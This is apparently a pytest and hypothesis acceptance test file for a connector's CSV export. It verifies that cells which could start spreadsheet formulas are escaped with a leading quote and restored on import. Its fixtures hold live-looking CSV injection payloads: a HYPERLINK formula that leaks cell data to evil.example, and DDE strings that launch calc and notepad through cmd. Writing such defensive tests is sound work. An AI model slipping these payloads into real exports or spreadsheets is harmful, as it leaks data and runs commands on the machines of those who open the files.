"""Issue 14, item 7: CSV exports cannot smuggle spreadsheet formulas, and import undoes it.

Cells starting with ``=``, ``+``, ``-``, ``@``, tab or carriage return (and, so the escape
can be undone exactly, a single quote) get a leading single quote on export; ``mappings
import`` drops it again. Property tests prove the round trip over arbitrary text; the CLI tests
export through ``mappings export`` and ``audit export --format csv`` as child processes.
"""

from __future__ import annotations

import asyncio
import csv
import io
import json
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from acceptance.acceptance_kit import CliWorkspace
from ml_connector.csvcells import FORMULA_TRIGGERS, escape_cell, unescape_cell
from ml_connector.mapping.csvio import read_csv, write_csv
from ml_connector.mapping.table import MappingRule, MappingTable, Target
from ml_connector.runtime.wiring import Runtime
from ml_connector.settings import Settings

NAME = "acme"
HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A1,"Open")'
DDE = "+cmd|' /C calc'!A0"
FORMULAS = [HYPERLINK, DDE, "-2+3+cmd|' /C notepad'!A0", "@SUM(1+1)*cmd|' /C calc'!A0"]


@given(st.text())
def test_escaping_a_cell_round_trips_any_text(text: str) -> None:
    """For every text, unescape(escape(text)) is the text, and the escaped cell never starts
    with a character that makes a spreadsheet evaluate it."""
    escaped = escape_cell(text)
    assert unescape_cell(escaped) == text
    assert escaped[:1] not in FORMULA_TRIGGERS


def test_the_rule_on_examples() -> None:
    """Formula starts and leading quotes gain a quote; a hand-typed quote before anything else
    is read as written."""
    assert escape_cell("=1+2") == "'=1+2"
    assert escape_cell("-5") == "'-5"
    assert escape_cell("'ok") == "''ok"
    assert escape_cell("plain") == "plain"
    assert unescape_cell("'=1+2") == "=1+2"
    assert unescape_cell("''ok") == "'ok"
    assert unescape_cell("'abc") == "'abc"
    assert unescape_cell("'") == "'"


_value = st.text(alphabet="=+-@'\t\r\n\"a,;Zø0 ", min_size=1, max_size=12).filter(
    lambda t: t.strip() == t and not t.startswith("@")
)


@given(
    st.lists(
        st.tuples(_value, _value, _value, st.integers(-9, 9)),
        min_size=1,
        max_size=6,
    )
)
def test_a_mapping_table_survives_export_and_import(
    rows: list[tuple[str, str, str, int]],
) -> None:
    """Values full of formula starts, quotes, tabs and line breaks, and negative priorities,
    come back from CSV exactly, and no exported cell starts a formula."""
    table = MappingTable(
        tuple(
            MappingRule(source, value, Target.PROJECT, visma, priority=priority)
            for source, value, visma, priority in rows
        )
    )
    text = write_csv(table)
    for cells in csv.reader(io.StringIO(text, newline="")):
        assert all(cell[:1] not in FORMULA_TRIGGERS for cell in cells)
    assert read_csv(text) == table


@pytest.fixture
def workspace(tmp_path: Path) -> CliWorkspace:
    """An operator workspace with one connection (no vendor is called: --no-check)."""
    cli = CliWorkspace(tmp_path)
    added = cli.run(
        "connection",
        "add",
        NAME,
        "--ramp-client-id",
        "r",
        "--visma-client-id",
        "v",
        "--visma-tenant-id",
        "t",
        "--visma-company-id",
        "1",
        "--ramp-base-url",
        "http://127.0.0.1:9",
        "--visma-base-url",
        "http://127.0.0.1:9",
        "--visma-token-url",
        "http://127.0.0.1:9/connect/token",
        env={
            "ML_CONNECTOR_RAMP_CLIENT_SECRET": "ramp-secret-value",
            "ML_CONNECTOR_VISMA_CLIENT_SECRET": "visma-secret-value",
        },
    )
    assert added.returncode == 0, added.describe()
    return cli


def _cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def test_mappings_export_neutralises_formulas_and_import_restores_them(
    workspace: CliWorkspace,
) -> None:
    """A table whose Ramp values and Visma values are formulas exports with every such cell
    quoted, and importing the export gives back the same table, negative priority included."""
    source = workspace.folder / "hostile.csv"
    with source.open("w", encoding="utf-8", newline="") as handle:
        writer = csv.writer(handle)
        writer.writerow(["source", "value", "target", "visma_value", "priority"])
        for number, formula in enumerate(FORMULAS, start=1):
            writer.writerow(["ramp_category", formula, "project", f"P-{number}", "-3"])
        writer.writerow(["ramp_category", "Travel", "account", DDE, "0"])
        writer.writerow(["ramp_category", "'quoted", "vat", "''=x", "1"])
    imported = workspace.run("mappings", "import", NAME, str(source), "--no-check")
    assert imported.returncode == 0, imported.describe()
    before = workspace.run("mappings", "show", NAME, "--json")
    exported = workspace.run("mappings", "export", NAME)
    assert exported.returncode == 0, exported.describe()
    rows = _cells(exported.stdout)
    assert all(cell[:1] not in FORMULA_TRIGGERS for row in rows for cell in row)
    assert ["ramp_category", "'" + HYPERLINK, "project", "", "P-1", "'-3", "false"] in rows
    # A hand-typed ''=x was read as '=x (the rule drops one quote) and is written so.
    assert ["ramp_category", "''quoted", "vat", "", "''=x", "1", "false"] in rows

    again = workspace.folder / "exported.csv"
    again.write_text(exported.stdout, encoding="utf-8")
    reimported = workspace.run("mappings", "import", NAME, str(again), "--no-check")
    assert reimported.returncode == 0, reimported.describe()
    after = workspace.run("mappings", "show", NAME, "--json")
    rules_before = json.loads(before.stdout)["rules"]
    assert json.loads(after.stdout)["rules"] == rules_before
    values = {rule["value"] for rule in rules_before} | {r["visma_value"] for r in rules_before}
    assert {*FORMULAS, DDE, "'quoted", "'=x"} <= values


async def _audit_entries(workspace: CliWorkspace) -> None:
    settings = Settings(
        database_url=f"sqlite+aiosqlite:///{workspace.database_path}",
        master_key_file=workspace.key_path,
    )
    rt = await Runtime.open(settings)
    try:
        connection = await rt.store.get_connection(NAME)
        await rt.store.append_audit(connection.id, None, HYPERLINK, {"vendor": DDE})
        await rt.store.append_audit(connection.id, None, "-1+1", {})
    finally:
        await rt.close()


def test_audit_csv_export_neutralises_every_cell(workspace: CliWorkspace) -> None:
    """``audit export --format csv`` quotes every cell that would start a formula (here an
    entry kind), so nothing in the file runs when a spreadsheet opens it."""
    asyncio.run(_audit_entries(workspace))
    exported = workspace.run("audit", "export", NAME, "--format", "csv")
    assert exported.returncode == 0, exported.describe()
    rows = _cells(exported.stdout)
    assert rows[0] == ["seq", "at", "record_id", "kind", "data", "prev_hash", "hash"]
    assert all(cell[:1] not in FORMULA_TRIGGERS for row in rows for cell in row)
    kinds = [row[3] for row in rows[1:]]
    assert "'" + HYPERLINK in kinds
    assert "'-1+1" in kinds
    data = [json.loads(row[4]) for row in rows[1:]]
    assert {"vendor": DDE} in data
